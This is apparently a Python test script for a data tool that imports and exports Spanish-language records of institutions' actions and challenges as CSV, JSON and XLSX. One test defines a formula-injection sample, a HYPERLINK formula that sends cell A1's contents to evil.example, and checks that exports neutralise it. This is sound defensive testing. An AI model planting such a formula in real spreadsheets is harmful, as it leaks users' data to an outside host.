"""Issue 10, the action model: every import and every output goes through
core/action (one table, one validator, one serializer). Each check below
is one fault of the issue, through the command line, the files and HTTP."""
import json
import os
import sqlite3
import sys
import zipfile
from pmmtest import Scratch, ACTION_HEADER, check, eq, contains, done
import xlsxmini

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "web"))
from webtest import Client, demo_server  # noqa: E402


def rows(s, sql, *args):
    con = sqlite3.connect(s.db)
    try:
        return con.execute(sql, args).fetchall()
    finally:
        con.close()


def fresh():
    s = Scratch()
    s.pmm("init", check=0)
    return s


# ---- fault 1: a file only creates or replaces its own institution's actions

def folio_of_another_institution_is_refused():
    s = fresh()
    s.pmm("import", "--edition", "2024",
          s.write("inm.csv", ACTION_HEADER + "\n01,INM,7,Acción del INM,,Capacitación,extranjeros,Sí,No,10,\n"),
          "--retos", s.write("inm-retos.csv", "folio,reto,categoria\n01,Reto del INM,\n"), check=0)
    before = s.dump()
    r = s.pmm("import", "--edition", "2024",
              s.write("sre.csv", ACTION_HEADER + "\n01,SRE,14,Acción de la SRE,,Capacitación,exterior,No,No,5,\n"),
              "--retos", s.write("sre-retos.csv", "folio,reto,categoria\n01,Reto de la SRE,\n"))
    eq(r.returncode, 1, "SRE's import of INM's folio is refused:\n" + r.stdout + r.stderr)
    contains(r.stderr, "sre.csv:2: columna «folio», valor «01»: el folio «01» ya es de otra acción de esta edición (de INM)")
    eq(s.dump(), before, "INM's action and challenge are untouched")
    eq(rows(s, "SELECT a.name, c.text FROM action a JOIN challenge c ON c.action_id = a.id"),
       [("Acción del INM", "Reto del INM")], "INM's action and challenge")
    # challenges follow their action's owner: SRE's file may not replace INM's
    r = s.pmm("import", "--edition", "2024",
              s.write("sre2.csv", ACTION_HEADER + "\n02,SRE,14,Otra de la SRE,,Capacitación,exterior,No,No,5,\n"),
              "--retos", s.write("sre2-retos.csv", "folio,reto,categoria\n01,Reto ajeno,\n"))
    eq(r.returncode, 1, "a challenge for INM's action in SRE's file is refused")
    contains(r.stderr, "el folio «01» es de una acción de INM, que el archivo de acciones no reporta")
    eq(s.dump(), before, "nothing changed")
    # INM itself still replaces its own action
    r = s.pmm("import", "--edition", "2024",
              s.write("inm2.csv", ACTION_HEADER + "\n01,INM,7,Acción del INM corregida,,Capacitación,,Sí,No,10,\n"),
              check=0)
    contains(r.stdout, "(0 nuevas, 1 reemplazada)")   # issue 12: agreement
    s.close()


# ---- fault 2 (import side): no cap on challenges or lists

def forty_challenges_are_kept():
    s = fresh()
    retos = "folio,reto,categoria\n" + "".join("M-1,Reto número %d,\n" % i for i in range(40))
    s.pmm("import", "--edition", "2024",
          s.write("a.csv", ACTION_HEADER + "\nM-1,INM,7,Uno,,Capacitación,extranjeros,Sí,No,10,\n"),
          "--retos", s.write("r.csv", retos), check=0)
    eq(rows(s, "SELECT count(*) FROM challenge"), [(40,)], "40 challenges stored")
    doc = json.loads(s.pmm("export", "--edition", "2024", "--format", "json", check=0).stdout)
    eq(len(doc["acciones"][0]["retos"]), 40, "40 challenges exported")
    s.pmm("export", "--edition", "2024", "--format", "csv", "-o", "e.csv", check=0)
    eq(len(open(s.path("e-retos.csv"), encoding="utf-8").read().splitlines()), 41, "40 CSV rows + header")
    s.close()


# ---- fault 9 (import side): one limit and one UTF-8 rule for every entry point

def one_limit_for_csv_and_json():
    s = fresh()
    big = "x" * 100001
    r_csv = s.pmm("import", "--edition", "2024",
                  s.write("a.csv", ACTION_HEADER + "\nM-1,INM,7,Uno,%s,Capacitación,,Sí,No,10,\n" % big))
    doc = {"schema": "pmm-export/1", "acciones": [
        {"folio": "M-1", "institucion": "INM", "objetivos": [7], "nombre": "Uno", "descripcion": big}]}
    r_json = s.pmm("import", "--edition", "2024", s.write("a.json", json.dumps(doc)))
    eq((r_csv.returncode, r_json.returncode), (1, 1), "both refused")
    msg = "columna «descripcion»: el texto es demasiado largo (máximo 100000 caracteres)"
    contains(r_csv.stderr, msg)
    contains(r_json.stderr, msg)
    eq(rows(s, "SELECT count(*) FROM action"), [(0,)], "nothing stored")
    s.close()


def json_unknown_keys_and_types_are_refused():
    s = fresh()
    doc = {"schema": "pmm-export/1", "acciones": [{"folio": "M-1", "institucion": "INM", "objetivos": [7], "nombre": "Uno",
                         "beneficarios": 12, "enfoque_genero": [1],
                         "retos": [{"reto": "R", "categoria": None, "nota": "x"}]}]}
    r = s.pmm("import", "--edition", "2024", s.write("a.json", json.dumps(doc)))
    eq(r.returncode, 1, "refused:\n" + r.stderr)
    contains(r.stderr, "«beneficarios»: campo desconocido")
    contains(r.stderr, "columna «enfoque_genero»: «enfoque_genero»: el valor JSON no es del tipo esperado")
    contains(r.stderr, "«retos[0]»: el valor JSON no es del tipo esperado")
    eq(rows(s, "SELECT count(*) FROM action"), [(0,)], "nothing stored")
    s.close()


# ---- fault 10: the downloads are the interchange format and import back

def downloads_import_back_with_the_same_figures():
    # the public reads the published revision (a snapshot edition): the
    # change is made to the first challenge of every edition, working and
    # published alike
    s, srv = demo_server()
    try:
        web = Client(srv)
        con = sqlite3.connect(s.db)
        con.execute("UPDATE challenge SET category_id = NULL WHERE id IN (SELECT min(c.id) FROM challenge c"
                    " JOIN action a ON a.id = c.action_id WHERE a.status = 'validada'"
                    " GROUP BY a.edition_id)")
        con.commit()
        con.close()
        want = s.figures("2024")
        want.pop("period", None)
        j = web.get("/descargas/2024/acciones.json").body
        doc = json.loads(j)
        eq(doc["schema"], "pmm-export/1", "schema")
        cats = [r["categoria"] for a in doc["acciones"] for r in a["retos"]]
        eq("" in cats, False, "an unclassified challenge is null, never \"\"")
        eq(None in cats, True, "an unclassified challenge is null")
        for fmt in ["json", "csv"]:
            t = fresh()
            if fmt == "json":
                t.pmm("import", "--edition", "2024", t.write("d.json", j), check=0)
            else:
                t.pmm("import", "--edition", "2024",
                      t.write("acciones.csv", web.get("/descargas/2024/acciones.csv").body),
                      "--retos", t.write("retos.csv", web.get("/descargas/2024/retos.csv").body), check=0)
            got = t.figures("2024")
            got.pop("period", None)
            eq(got, want, "figures of the re-imported %s download" % fmt)
            t.close()
        # pmm export and the download write the same bytes for the same actions
        s.pmm("export", "--edition", "2024", "--format", "csv", "-o", "e.csv", check=0)
        eq(open(s.path("e-retos.csv"), encoding="utf-8").read(), web.get("/descargas/2024/retos.csv").body,
           "one CSV writer: retos.csv of export and download")
    finally:
        srv.stop()
        s.close()


# ---- fault 11: non-answers in Sí/No columns; hidden and struck rows

def non_answers_are_refused():
    s = fresh()
    for mark in ["✓", "✔", "☑", "-", "?", ".", "—", "n/a"]:
        r = s.pmm("import", "--edition", "2024",
                  s.write("a.csv", ACTION_HEADER + "\nM-1,INM,7,Uno,,Capacitación,,%s,No,,\n" % mark))
        eq(r.returncode, 1, "%s refused" % mark)
        contains(r.stderr, "columna «enfoque_genero», valor «%s»: debe ser «Sí» o «No»" % mark)
    r = s.pmm("import", "--edition", "2024",
              s.write("a.csv", ACTION_HEADER + "\nM-1,INM,7,Uno,,Capacitación,,,No,,\n"), check=0)
    eq(rows(s, "SELECT gender_focus FROM action"), [(None,)], "only an empty cell is «sin dato»")
    s.close()


STRIKE_STYLES = ('<?xml version="1.0" encoding="UTF-8"?><styleSheet %s>'
                 '<fonts count="2"><font/><font><strike/></font></fonts>'
                 '<cellXfs count="3"><xf numFmtId="0" fontId="0"/><xf numFmtId="14" applyNumberFormat="1"/>'
                 '<xf numFmtId="0" fontId="1" applyFont="1"/></cellXfs></styleSheet>' % xlsxmini.NS)


def hidden_and_struck_rows_warn():
    s = fresh()
    head = ["folio", "institucion", "objetivos", "nombre"]
    data = [head, ["M-1", "INM", "7", "Visible"], ["M-2", "INM", "7", "Oculta"], ["M-3", "INM", "7", "Tachada"]]
    sheet = xlsxmini.sheet_xml(data, {}, inline=True)
    sheet = sheet.replace('<row r="3">', '<row r="3" hidden="1">')
    sheet = sheet.replace('<c r="D4" t="inlineStr">', '<c r="D4" s="2" t="inlineStr">')
    p = xlsxmini.write(s.path("l.xlsx"), [("Acciones", data)], inline=True,
                       override={"xl/worksheets/sheet1.xml": sheet, "xl/styles.xml": STRIKE_STYLES})
    r = s.pmm("import", "--edition", "2024", p, check=0)
    contains(r.stderr, "l.xlsx[Acciones]:3: aviso: la fila está oculta en el libro")
    contains(r.stderr, "l.xlsx[Acciones]:4: aviso: la fila tiene texto tachado")
    eq("[Acciones]:2:" in r.stderr, False, "a plain row gives no warning")
    eq(rows(s, "SELECT count(*) FROM action"), [(3,)], "every row is imported")
    s.close()


# ---- fault 12: formula injection

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Haga clic")'


def formulas_are_neutralised_and_round_trip():
    s = fresh()
    s.pmm("import", "--edition", "2024",
          s.write("a.csv", ACTION_HEADER + "\nM-1,INM,7,+Uno,,Capacitación,,Sí,No,,''=ya con apóstrofo\n"),
          "--retos", s.write("r.csv", 'folio,reto,categoria\nM-1,"%s",\n' % EVIL.replace('"', '""')), check=0)
    eq(rows(s, "SELECT text FROM challenge"), [(EVIL,)], "stored as written")
    s.pmm("export", "--edition", "2024", "--format", "csv", "-o", "e.csv", check=0)
    retos = open(s.path("e-retos.csv"), encoding="utf-8").read()
    contains(retos, '"\'=HYPERLINK(""http://evil.example')
    acc = open(s.path("e.csv"), encoding="utf-8").read()
    contains(acc, ",'+Uno,")
    contains(acc, ",''=ya con apóstrofo,,,\n")   # the empty principios, continua_folio, continua_edicion (issue 13)
    # the export imports back to exactly the same texts
    t = fresh()
    t.pmm("import", "--edition", "2024", s.path("e.csv"), "--retos", s.path("e-retos.csv"), check=0)
    eq(rows(t, "SELECT text FROM challenge"), [(EVIL,)], "challenge round trip")
    eq(rows(t, "SELECT name, results FROM action"), [("+Uno", "'=ya con apóstrofo")], "action round trip")
    t.close()
    # the workbook holds it as a string cell, never a formula
    s.pmm("export", "--edition", "2024", "--format", "xlsx", "-o", "e.xlsx", check=0)
    with zipfile.ZipFile(s.path("e.xlsx")) as z:
        names = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        sheets = "".join(z.read(n).decode() for n in names)
        sst = z.read("xl/sharedStrings.xml").decode()
    eq("<f>" in sheets, False, "no formula in any sheet")
    contains(sst, "=HYPERLINK(")
    s.close()


def public_csv_is_neutralised():
    s, srv = demo_server()
    try:
        con = sqlite3.connect(s.db)
        con.execute("UPDATE challenge SET text = ? WHERE id IN (SELECT min(c.id) FROM challenge c"
                    " JOIN action a ON a.id = c.action_id WHERE a.status = 'validada'"
                    " GROUP BY a.edition_id)", (EVIL,))
        con.commit()
        con.close()
        body = Client(srv).get("/descargas/2024/retos.csv").body
        contains(body, '"\'=HYPERLINK(')
        eq('\n"=HYPERLINK' in body or ',"=HYPERLINK' in body, False, "never a bare formula")
    finally:
        srv.stop()
        s.close()


check("fault 1: a folio of another institution's action is refused, INM's data intact",
      folio_of_another_institution_is_refused)
check("fault 2: 40 challenges are imported and exported, no cap", forty_challenges_are_kept)
check("fault 9: one text limit for CSV and JSON", one_limit_for_csv_and_json)
check("fault 8/9: the JSON reader refuses unknown keys and wrong types", json_unknown_keys_and_types_are_refused)
check("fault 10: every download imports back to the same figures", downloads_import_back_with_the_same_figures)
check("fault 11: ✓ - ? . — in a Sí/No column are refused", non_answers_are_refused)
check("fault 11: hidden and struck-through rows are imported with a warning", hidden_and_struck_rows_warn)
check("fault 12: cells starting with = + - @ are guarded in CSV, round-trip, strings in XLSX",
      formulas_are_neutralised_and_round_trip)
check("fault 12: the public retos.csv guards a formula", public_csv_is_neutralised)
done()
